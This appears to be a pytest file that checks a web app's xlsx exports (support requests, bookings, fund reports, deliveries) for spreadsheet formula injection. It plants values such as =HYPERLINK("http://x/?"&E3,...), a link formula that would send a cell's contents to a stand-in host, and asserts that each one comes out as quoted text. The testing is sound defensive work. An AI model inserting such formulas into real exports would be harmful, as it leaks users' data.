"""Every xlsx export writes what people typed as text, never as a formula a spreadsheet would run.

The routes are taken from the registry: each route that answers with an xlsx file must have a
scenario here, which makes its records, plants a formula-looking value in every free-text field
the export shows and downloads the file. A support description such as
=HYPERLINK("http://x/?"&E3,"点击查看详情") must come out as that text, in a text cell."""

from __future__ import annotations

import base64
import io
import json
from collections.abc import Callable

import pytest
from openpyxl import load_workbook

from chalicelib.core import times
from tests.api.access_cases import Context
from tests.api.helpers import new_key, post_json, support_body
from tests.conftest import scans_allowed

HYPERLINK = '=HYPERLINK("http://x/?"&E3,"点击查看详情")'
STARTS = ("=", "+", "-", "@", "\t")


def formula(label: str, n: int) -> str:
    """A formula-looking value for one field, each field its own, with every dangerous first character."""
    first = STARTS[n % len(STARTS)]
    return f'{first}HYPERLINK("http://x/?"&E3,"{label}")'


def plant(kind: str, fields: tuple[str, ...], start: int = 0) -> list[str]:
    """Overwrite the listed text fields of every stored item of a type with formula-looking values,
    as a record written before any check (or by any other path) would hold them; returns them."""
    from chalicelib.core import db

    planted: list[str] = []
    with scans_allowed():  # the test reads the whole table to find what the scenario stored
        items = db.table().scan()["Items"]
    found = [i for i in items if i.get("type") == kind]
    assert found, f"the scenario stored no {kind}"
    for item in found:
        values = {f: formula(f"{kind}.{f}", start + n) for n, f in enumerate(fields)}
        names = {f"#f{n}": f for n, f in enumerate(fields)}
        db.table().update_item(Key={"PK": item["PK"], "SK": item["SK"]},
                               UpdateExpression="SET " + ", ".join(f"#f{n} = :f{n}" for n in range(len(fields))),
                               ExpressionAttributeNames=names,
                               ExpressionAttributeValues={f":f{n}": values[f] for n, f in enumerate(fields)})
        planted += values.values()
    return planted


Scenario = Callable[[Context], tuple[str, list[str]]]  # -> (path to download, values to find verbatim)


def _support(ctx: Context) -> tuple[str, list[str]]:
    created = post_json(ctx.client, "/support-requests", support_body(description=HYPERLINK), new_key())
    assert created.status_code == 201, created.body  # the public form takes it: it is only text
    planted = plant("support_request", ("name", "relation", "public_message", "counsellor"))
    return "/staff/support/units/taishan/export", [HYPERLINK, *planted]


def _booking(ctx: Context) -> tuple[str, list[str]]:
    from tests.api.test_booking_engine import make_session, register

    staff = {"Authorization": f"Bearer {ctx.admin}"}
    session = make_session(ctx.client, staff)
    assert register(ctx.client, session["id"], 1).status_code == 201
    planted = plant("booking_session", ("title",)) + plant("booking_registration", ("name", "note", "channel"), 1)
    return f"/staff/sessions/{session['id']}/export", planted


def _recruitment(ctx: Context) -> tuple[str, list[str]]:
    from tests.api.test_recruitment_flow import approved_opening

    firm, opening = approved_opening(ctx.client, {"Authorization": f"Bearer {ctx.admin}"})
    worker = {"name": "赵强", "phone": "13911112222", "consent": True, "consent_version": "2020-02-v1",
              "share_phone": True}
    assert post_json(ctx.client, f"/openings/{opening}/interest", worker, new_key()).status_code == 200
    planted = plant("firm", ("name",)) + plant("opening_interest", ("opening_title", "name"), 1)
    return f"/staff/firms/{firm}/interested/export", planted


def _fund(ctx: Context) -> tuple[str, list[str]]:

    year = times.today().year
    budget = ctx.call("PUT", "/fund/units/daiyue/budget",
                      {"year": year, "annual_budget_fen": 100_000, "special_fund_fen": 100_000}, ctx.admin)
    assert budget.status_code == 200, budget.body
    spend = ctx.call("POST", "/fund/spends", {"unit_id": "daiyue", "category": "supplies_masks", "amount_fen": 2500,
                                              "payee": "+SUM(1,2)", "receipt": "@R-9", "note": HYPERLINK}, ctx.admin)
    assert spend.status_code == 201, spend.body  # the staff form takes them: they are only text
    planted = plant("fund_entry", ("beneficiary", "approved_by"))
    return f"/fund/units/daiyue/report/export?year={year}", ["+SUM(1,2)", "@R-9", HYPERLINK, *planted]


def _cover(ctx: Context) -> tuple[str, list[str]]:
    from tests.api.access_cases.frontline import new_family

    hospital, family, _ = new_family(ctx, "taishan", contact=None)
    relative = {"name": "李奶奶", "relation": "母亲", "age": 78, "needs": "独居", "address": "泰山区某某路 1 号"}
    member = ctx.call("POST", f"/staff/frontline/families/{family}/members", relative, ctx.admin)
    assert member.status_code == 201, member.body
    enrolled = ctx.call("POST", f"/staff/frontline/families/{family}/cover",
                        {"who": json.loads(member.body)["id"], "kinds": ["accident"]}, ctx.admin)
    assert enrolled.status_code == 200, enrolled.body
    planted = plant("frontline_person", ("name",)) + plant("frontline_cover", ("name", "relation"), 1)
    return f"/staff/frontline/units/{hospital}/cover/export", planted


def _delivery(ctx: Context) -> tuple[str, list[str]]:
    from chalicelib.delivery import service
    from tests.api.access_cases.delivery import CAMPAIGN, signed_up_family
    from tests.api.test_delivery_roster import fund_city, package_for

    fund_city()
    family = signed_up_family(ctx, "taishan")
    package_for(ctx, family)
    planted = plant("delivery_package", ("address", "dietary_notes", "supplier"))
    plant("delivery_package", ("name",), 3)  # shown masked, so not verbatim, but never as a formula
    week = service.week_of(service.campaign(CAMPAIGN), times.today())
    return f"/staff/delivery/units/taishan/supplier-list?campaign_id={CAMPAIGN}&week={week}", planted


def _template(ctx: Context) -> tuple[str, list[str]]:
    return "/staff/frontline/import-template", []  # nobody's text: the template itself must hold no formula


SCENARIOS: dict[str, Scenario] = {
    "/staff/support/units/{unit_id}/export": _support,
    "/staff/sessions/{session_id}/export": _booking,
    "/staff/firms/{reference}/interested/export": _recruitment,
    "/fund/units/{unit_id}/report/export": _fund,
    "/staff/frontline/units/{unit_id}/cover/export": _cover,
    "/staff/delivery/units/{unit_id}/supplier-list": _delivery,
    "/staff/frontline/import-template": _template,
}


def xlsx_routes() -> list[str]:
    import app  # noqa: F401 - registers every route
    from chalicelib.core import api, xlsx

    return sorted(d.path for d in api.REGISTRY if xlsx.MEDIA_TYPE in d.media_types)


def test_every_file_answer_declares_its_type_and_every_xlsx_export_has_a_scenario():
    import app  # noqa: F401 - registers every route
    from chalicelib.core import api

    undeclared = [d.path for d in api.REGISTRY
                  if d.response is not None and "content_base64" in d.response.model_fields and not d.media_types]
    assert not undeclared, f"routes answering a file without naming its media type: {undeclared}"
    assert xlsx_routes() == sorted(SCENARIOS)


@pytest.mark.parametrize("path", sorted(SCENARIOS))
def test_an_export_writes_formula_looking_text_as_text(path, client, staff_token, seeded):
    ctx = Context(client, staff_token)
    url, planted = SCENARIOS[path](ctx)
    response = ctx.call("GET", url, None, ctx.admin)
    assert response.status_code == 200, response.body
    book = load_workbook(io.BytesIO(base64.b64decode(json.loads(response.body)["content_base64"])))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formulas = [f"{c.parent.title}!{c.coordinate}: {c.value!r}" for c in cells if c.data_type == "f"]
    assert not formulas, formulas
    assert all(c.data_type == "s" for c in cells), {c.data_type for c in cells}
    texts = {c.value for c in cells}
    missing = [value for value in planted if value not in texts]
    assert not missing, f"not kept verbatim: {missing}"
    for cell in cells:
        if str(cell.value).startswith(STARTS):
            assert cell.quotePrefix, f"{cell.coordinate}: {cell.value!r} is not marked as literal text"
    for sheet in book.worksheets:
        if sheet.title != "填写说明":
            assert sheet.freeze_panes, f"{sheet.title}: the header row is not frozen"
